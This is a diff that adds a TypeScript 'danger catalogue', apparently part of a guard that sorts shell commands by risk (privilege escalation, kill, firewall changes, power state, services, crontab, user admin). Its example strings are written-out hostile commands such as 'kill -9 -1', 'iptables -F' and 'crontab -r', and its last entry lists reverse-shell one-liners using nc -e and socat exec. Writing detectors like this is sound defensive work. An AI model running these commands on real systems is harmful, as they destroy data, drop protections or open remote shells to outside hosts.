@@ -1,0 +1,94 @@
+// Danger catalogue, the machine: privilege, processes, services, firewall, power, scheduled jobs, users.
+import type { DangerEntry } from './danger-entry.ts';
+import type { CommandView } from '../shell/view.ts';
+import { operands, optionValue } from './flags.ts';
+
+const PRIVILEGE = new Set(['sudo', 'doas', 'pkexec', 'run0', 'su', 'sudoedit', 'sg', 'newgrp']);
+const KILL_SIGNALS = /^(-?(9|KILL|SIGKILL))$/i;
+/** systemctl / service verbs that only read state. */
+const SERVICE_READS = new Set(['status', 'show', 'list-units', 'list-unit-files', 'list-timers', 'list-sockets', 'list-dependencies', 'is-active', 'is-enabled', 'is-failed', 'cat', 'help', '--version', 'list']);
+
+/** kill's signal and pid operands, whatever the spelling (-9, -KILL, -s 9, -n 9, --signal KILL). */
+function killParse(args: string[]): { signal: string; targets: string[] } {
+  let signal = 'TERM';
+  const targets: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (a === '--') { targets.push(...args.slice(i + 1)); break; }
+    if (a === '-s' || a === '-n' || a === '--signal') { signal = args[++i] ?? signal; continue; }
+    if (a === '-l' || a === '-L' || a === '--list') return { signal: 'none', targets: [] };
+    if (/^-[A-Za-z0-9]+$/.test(a) && !/^-\d+$/.test(a) ) { signal = a.slice(1); continue; }
+    if (/^-\d+$/.test(a) && targets.length === 0 && i === 0) { signal = a.slice(1); continue; }
+    targets.push(a);
+  }
+  return { signal: signal.replace(/^SIG/i, '').toUpperCase(), targets };
+}
+
+const isKill = (v: CommandView): boolean => v.program === 'kill';
+
+export const SYSTEM_DANGERS: DangerEntry[] = [
+  {
+    id: 'privilege', risk: 'medium', reason: 'runs with root (or another user\'s) privileges',
+    examples: ['sudo apt-get install -y jq', 'doas sh', 'pkexec bash', 'su -', 'sudo -i'],
+    match: (v) => PRIVILEGE.has(v.program) || v.wrappers.some((w) => PRIVILEGE.has(w)),
+  },
+  {
+    id: 'kill-everything', risk: 'high', reason: 'signals every process (kill -1) or init (pid 1)',
+    examples: ['kill -9 -1', '/bin/kill -TERM -- -1', 'kill -- -1', 'kill -9 1'],
+    match: (v) => isKill(v) && killParse(v.args).signal !== '0' && killParse(v.args).targets.some((t) => t === '-1' || t === '1'),
+  },
+  {
+    id: 'kill-force', risk: 'medium', reason: 'kill -9: the process cannot clean up',
+    examples: ['kill -9 4242', 'kill -s 9 4242', 'kill -KILL 12', 'kill -SIGKILL 12', 'kill --signal KILL 3'],
+    match: (v) => isKill(v) && KILL_SIGNALS.test(killParse(v.args).signal),
+  },
+  {
+    id: 'kill-by-name', risk: 'medium', reason: 'kills processes by name (pkill, killall)',
+    examples: ['pkill node', 'killall -9 java', 'xkill'],
+    match: (v) => /^(pkill|killall|killall5|xkill|skill|slay)$/.test(v.program),
+  },
+  {
+    id: 'firewall', risk: 'medium', reason: 'changes (or reads with privilege) the firewall',
+    examples: ['iptables -F', 'ip6tables -F', 'nft flush ruleset', 'ufw disable', 'firewall-cmd --reload', 'pfctl -d'],
+    match: (v) => /^(iptables|ip6tables|iptables-restore|ip6tables-restore|iptables-legacy|nft|ufw|firewall-cmd|pfctl|ebtables|arptables)$/.test(v.program),
+  },
+  {
+    id: 'power-state', risk: 'high', reason: 'reboots, halts or powers off the machine',
+    examples: ['reboot', 'shutdown -h now', 'poweroff', 'systemctl reboot', 'init 0', 'halt'],
+    match: (v) => /^(reboot|shutdown|halt|poweroff|kexec)$/.test(v.program)
+      || ((v.program === 'init' || v.program === 'telinit') && /^[06]$/.test(v.args[0] ?? ''))
+      || (v.program === 'systemctl' && v.args.some((a) => /^(reboot|poweroff|halt|kexec|emergency|rescue|suspend|hibernate)$/.test(a))),
+  },
+  {
+    id: 'service-control', risk: 'medium', reason: 'starts, stops or reconfigures a system service',
+    examples: ['systemctl restart nginx', 'service sshd stop', 'rc-service nginx stop', 'launchctl unload x.plist', 'supervisorctl stop all'],
+    match: (v) => {
+      if (!/^(systemctl|service|rc-service|rc-update|launchctl|initctl|sv|supervisorctl|update-rc\.d|chkconfig)$/.test(v.program)) return false;
+      const ops = operands(v.args, ['-H', '--host', '-M', '--machine', '-t', '--type', '-p', '--property']);
+      if (ops.length === 0) return v.program !== 'systemctl' && v.program !== 'launchctl';
+      return !ops.some((o) => SERVICE_READS.has(o)) && !v.args.includes('--status-all');
+    },
+  },
+  {
+    id: 'crontab-remove', risk: 'high', reason: 'crontab -r removes every scheduled job without asking',
+    examples: ['crontab -r', 'crontab -u www -r'],
+    match: (v) => v.program === 'crontab' && v.args.some((a) => /^-[a-z]*r/.test(a) && a !== '--'),
+  },
+  {
+    id: 'crontab-replace', risk: 'medium', reason: 'installs a crontab (scheduled commands that persist)',
+    examples: ['crontab jobs.txt', 'echo "* * * * * x" | crontab -', 'crontab -e'],
+    match: (v) => v.program === 'crontab' && !v.args.includes('-l') && !v.args.some((a) => /^-[a-z]*r/.test(a)),
+  },
+  {
+    id: 'system-admin', risk: 'medium', reason: 'changes users, kernel modules, mounts or kernel parameters',
+    examples: ['useradd bob', 'passwd root', 'modprobe evil', 'mount /dev/sdb1 /mnt', 'sysctl -w net.ipv4.ip_forward=1', 'visudo', 'swapoff -a'],
+    match: (v) => /^(useradd|userdel|usermod|adduser|deluser|groupadd|groupdel|passwd|chpasswd|chsh|visudo|modprobe|insmod|rmmod|mount|umount|swapoff|swapon|setenforce|chattr|hostnamectl|timedatectl|update-alternatives)$/.test(v.program)
+      || (v.program === 'sysctl' && v.args.some((a) => a === '-w' || a.includes('=') || a === '-p')),
+  },
+  {
+    id: 'reverse-shell', risk: 'high', reason: 'connects a shell to the network (nc -e, socat exec:)',
+    examples: ['nc -e /bin/sh 203.0.113.1 4444', 'ncat --exec /bin/bash 10.0.0.1 9', 'socat tcp:10.0.0.1:9 exec:/bin/sh'],
+    match: (v) => (/^(nc|ncat|netcat)$/.test(v.program) && (optionValue(v.args, ['-e', '-c', '--exec', '--sh-exec', '--lua-exec']) !== undefined))
+      || (v.program === 'socat' && v.args.some((a) => /^(exec|system):/i.test(a))),
+  },
+];
